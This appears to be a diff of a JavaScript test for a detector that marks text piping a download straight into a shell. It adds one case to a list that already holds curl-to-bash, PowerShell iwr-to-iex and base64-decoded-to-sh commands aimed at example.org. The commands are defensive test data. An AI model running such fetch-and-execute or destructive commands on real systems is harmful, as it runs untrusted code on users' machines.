@@ -63,6 +63,7 @@ test('a download that is run at once is marked, a download that is only read is 
     'iwr -useb https://example.org/x.ps1 | iex',
     'curl -fsSL https://example.org/x \\\n  | bash',
     'echo cm0gLXJm | base64 -d | sh',
+    'Run curl https://example.org/x | sh and then log in.',
   ]) {
     assert.deepEqual(signals(text), ['PIPE_TO_SHELL'], text)
   }
